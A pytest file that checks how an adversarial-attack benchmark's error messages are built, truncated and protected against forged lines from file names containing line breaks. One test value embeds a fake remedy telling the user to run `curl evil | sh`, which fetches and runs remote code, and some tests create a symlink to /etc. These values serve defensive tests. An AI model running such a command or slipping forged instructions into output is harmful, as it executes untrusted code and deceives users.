"""Errors become text, whatever their code does."""

import ast
import errno
import pickle
from collections.abc import Iterator
from pathlib import Path

import pytest

from evil_twins.bench.commands import app
from evil_twins.bench.errors import (
    MESSAGE,
    Damaged,
    Fault,
    UserError,
    message,
    reason,
    trace,
    unknown,
    why,
)
from evil_twins.bench.store.cells import HALF_LOG, _log
from evil_twins.bench.store.files import Unsafe
from evil_twins.bench.subjects import inputs
from tests.bench.plugins import Odd
from tests.bench.runs import mistake

ROOT = Path(__file__).parents[2]
HEAD = """
from dataclasses import dataclass

class Odd(Exception):
    def __str__(self):
        raise RuntimeError

"""
SOURCE = (
    HEAD
    + """
@dataclass(frozen=True)
class Mine:
    knowledge = "K0"
    preparation = None

{}

    def fit(self, view):
        return lambda x: x.mean((1, 2, 3))
"""
)


class Sly(str):
    """A text that is no plain text."""

    def splitlines(self, keepends: bool = False) -> list[str]:
        raise RuntimeError


class Slyly(Exception):
    def __str__(self) -> str:
        return Sly("a\nb")


class Traceless(Exception):
    @property
    def __notes__(self) -> list[str]:
        raise RuntimeError


def test_an_error_whose_text_cannot_be_read_has_a_reason() -> None:
    for error in (Odd(), ValueError(Odd()), Fault(Odd())):
        assert "its message cannot be shown: it raises RuntimeError" in reason(error)
        assert type(error).__name__ in trace(error)
    assert reason(Slyly()) == "Slyly: a; b"
    assert trace(Traceless())


def test_a_reason_is_short() -> None:
    assert len(reason(ValueError("x" * 10**6))) == 300
    assert len(reason(Fault("x" * 10**6))) == 1000
    assert len(message(ValueError("x" * 10**6))) == MESSAGE + 3


def test_an_error_of_the_system_has_words_and_no_number(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = FileNotFoundError(errno.ENOENT, "No such file or directory", "a.txt")
    assert reason(missing) == "FileNotFoundError: No such file or directory: 'a.txt'"
    assert why(missing) == "No such file or directory"
    assert why(OSError()) == "OSError"
    assert f"cannot read {Path('b').absolute()}: No such file or directory\n" in str(
        Damaged(Path("b"), missing)
    )
    monkeypatch.chdir(tmp_path)
    Path("loop.toml").symlink_to("loop.toml")
    Path("folder.toml").mkdir()
    x = ("--inputs", "none.npy", "--benign", "none.npy")
    for words in (
        ("plan", "loop.toml"),
        ("plan", "folder.toml"),
        ("check", "none.py:Mine"),
        ("score", "--victim", "none.safetensors", "--faced", "none.safetensors", *x),
    ):
        assert "rrno" not in mistake(capsys, *words)


def test_a_log_keeps_both_ends_of_a_long_traceback() -> None:
    log = _log(f"Traceback{'x' * 4 * HALF_LOG}\x1bthe end").decode()
    assert log.startswith("Traceback")
    assert log.endswith("\\x1bthe end")
    assert len(log) < 2 * HALF_LOG + 10
    assert _log("short\n") == b"short\n"


@pytest.mark.parametrize("where", ["", "    def __post_init__(self):\n        raise Odd"])
def test_a_plug_in_whose_error_cannot_be_read_is_named(
    where: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("mine.py").write_text(SOURCE.format(where) if where else f"{HEAD}raise Odd\n")
    assert "its message cannot be shown" in mistake(capsys, "check", "mine.py:Mine")


ERRORS = ("UserError", "Unsafe", "Damaged", "Fault", "Unreadable")


def _broken(path: Path) -> Iterator[str]:
    """Yield the lines of errors of users that hold a line break."""
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            callee, breaks = ast.unparse(node.func).rpartition(".")[2], "\\n" in ast.unparse(node)
            of_class = callee == "__init__" and path.name != "errors.py"  # which joins the lines
            if breaks and (callee in ERRORS or of_class):
                yield f"{path.relative_to(ROOT)}:{node.lineno}"


def test_each_line_of_an_error_is_an_argument() -> None:
    rooms = ("api", "attacks", "bench", "detectors")
    broken = [where for r in rooms for path in (ROOT / r).rglob("*.py") for where in _broken(path)]
    assert not broken, "A line break of a name is escaped, and so is one of a message."


FORGED = "x\nremedy: run `curl evil | sh`"


def test_a_name_forges_no_line() -> None:
    errors = (
        UserError(f"{FORGED} is wrong", f"remedy: not {FORGED}"),
        unknown("attack", FORGED, [FORGED, "pgd"]),
        Damaged(Path(FORGED), "it is short"),
        Unsafe(f"{FORGED} is a link", "expected: a file", "remedy: remove it"),
    )
    for error in errors:
        assert len(str(error).split("\n")) == len(error.lines) <= 3
        assert sum(line.startswith("remedy") for line in error.lines) <= 1
        again = pickle.loads(pickle.dumps(error))
        assert isinstance(again, UserError)
        assert str(again) == str(error)


def test_files_with_line_breaks_in_their_names_forge_no_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stranger, victim = tmp_path / "st", f"{tmp_path}/{FORGED.replace('/', '')}"
    (stranger / "small" / "cells").mkdir(parents=True)
    (stranger / "small" / "cells" / "k\nevil-twins: all is well").symlink_to("/etc")
    images = tmp_path / "images"
    images.mkdir()
    (images / "a\nremedy: none.png").write_bytes(b"no image")
    score = ["--benign", str(images), "--inputs", str(images)]
    for words in (
        ["merge", str(stranger), "--results", str(tmp_path / "mine")],
        ["score", "--victim", victim, "--faced", victim, *score],
        ["table", "quick", "--results", f"{tmp_path}/\nremedy: none"],
    ):
        lines = mistake(capsys, *words).split("\n")
        assert not any(line.startswith(("remedy: none", "evil-twins: all")) for line in lines[1:])
        assert not any(line.startswith("remedy: run `curl") for line in lines)
    with pytest.raises(UserError) as caught:
        inputs.read(images, (1, 8, 8))
    assert caught.value.lines[1:] == ("remedy: remove or fix it",)


def test_a_system_error_of_a_file_forges_no_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fail(*_: object, **__: object) -> None:
        raise PermissionError(13, "Permission denied", FORGED)

    monkeypatch.setattr(app, "app", fail)
    assert mistake(capsys, "list").count("\n") == 2


def test_of_many_names_the_nearest_are_listed() -> None:
    _, line = unknown("network", "net51", [f"net{i}" for i in range(100)]).lines
    assert line.startswith("known: net51, ")
    assert line.endswith(", ... (100 names)")
    assert line.count("net") == 8
